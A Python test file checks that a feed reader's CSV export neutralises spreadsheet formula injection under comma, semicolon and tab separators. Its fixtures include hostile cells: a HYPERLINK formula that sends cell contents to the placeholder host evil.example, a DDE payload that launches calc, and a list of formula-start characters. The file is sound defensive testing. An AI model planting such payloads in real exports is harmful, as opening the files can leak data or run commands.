"""CSV exports open as data, whatever separator a spreadsheet splits them on.

Hostile titles, tags and notes are stored through a real refresh from the loopback server, then
exported with `veille export --format csv`. The file is read back twice with the csv module: with
`,` and its quotes, as a careful spreadsheet does, and with `;`, as a French spreadsheet set to
its usual separator does, and with tabs (where a quoted `,` file falls apart at every `;`). No cell of either
reading may be one a spreadsheet would evaluate, and the careful reading gives the text back.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from tests.httpserver import LocalServer
from veille.cli import main
from veille.core.ingest.refresh import refresh
from veille.core.library import open_library
from veille.core.settings import load_settings, resolve_paths

TITLES = [
    'Bilan;=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "Amende, +33 1 23 45 67 89",
    "  =1+1 après des espaces",
    '"=2+2" entre guillemets',
    "Revue\t-2+3 après une tabulation",
    "@SUM(A1:A9) en tête",
    "＝CMD() en pleine chasse",
    "Prix; -40 % ; @soldes",
    "Un titre sans danger, avec une virgule; et un point-virgule",
]
NOTE = "première ligne\n=cmd|' /C calc'!A0\nfin; +1"
TAGS = ["=cmd", "a;-b", "cnil"]
# What a spreadsheet takes for a formula once it has skipped spaces and quotes.
FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def rss() -> bytes:
    items = "".join(
        f"<item><title><![CDATA[{t}]]></title><guid>g{n}</guid>"
        f"<link>https://example.org/{n}</link><description>texte</description></item>"
        for n, t in enumerate(TITLES)
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Flux, piégé; =1</title>{items}</channel></rss>"
    ).encode()


@pytest.fixture
def exported(tmp_path: Path, local_server: LocalServer) -> str:
    home = tmp_path / "home"
    paths = resolve_paths(home)
    paths.ensure()
    paths.config.write_text('full_text = "never"\n')
    local_server.add("/feed.xml", rss())
    with open_library(paths.library, backups=paths.backups) as lib:
        lib.add_feed(local_server.url("/feed.xml"))
        report = asyncio.run(refresh(lib, load_settings(paths)))
        assert report.new_items == len(TITLES), report.errors
        ids = lib.item_ids()
        lib.tag(ids, add=TAGS)
        for item_id, title in zip(ids, TITLES, strict=True):  # notes keep tabs and spaces
            lib.set_note(item_id, f"{title}\n{NOTE}")
        lib.set_starred(ids)
    target = tmp_path / "items.csv"
    assert main(["--home", str(home), "export", "--format", "csv", "-o", str(target)]) == 0
    with target.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would run `cell` as a formula (tab and CR start one too); a leading
    apostrophe makes it text."""
    return cell[:1] in ("\t", "\r") or cell.lstrip(' "').startswith(FORMULA_STARTS)


def test_no_cell_is_a_formula_with_either_separator(exported: str) -> None:
    for delimiter in (",", ";", "\t"):
        rows = list(csv.reader(io.StringIO(exported), delimiter=delimiter))
        assert len(rows) == len(TITLES) + 1 or delimiter != ","
        cells = [piece for row in rows for cell in row for piece in cell.splitlines() or [""]]
        bad = [c for c in cells if evaluated(c)]
        assert not bad, f"with {delimiter!r}: {bad}"


def test_the_text_comes_back_with_apostrophes_only(exported: str) -> None:
    rows = list(csv.DictReader(io.StringIO(exported)))

    def plain(text: str) -> str:
        return text.replace("'", "")

    # Titles are stored on one line with single spaces; notes as they were written.
    assert {plain(row["title"]) for row in rows} == {plain(" ".join(t.split())) for t in TITLES}
    assert {plain(row["note"]) for row in rows} == {plain(f"{t}\n{NOTE}".strip()) for t in TITLES}
    assert all(row["id"].isdigit() for row in rows)


def test_every_text_cell_is_quoted(exported: str) -> None:
    header, first = exported.split("\r\n")[:2]
    assert header.startswith('"id","date","feed","title"')
    assert first.split(",", 1)[1].startswith('"')  # the id alone is a bare number
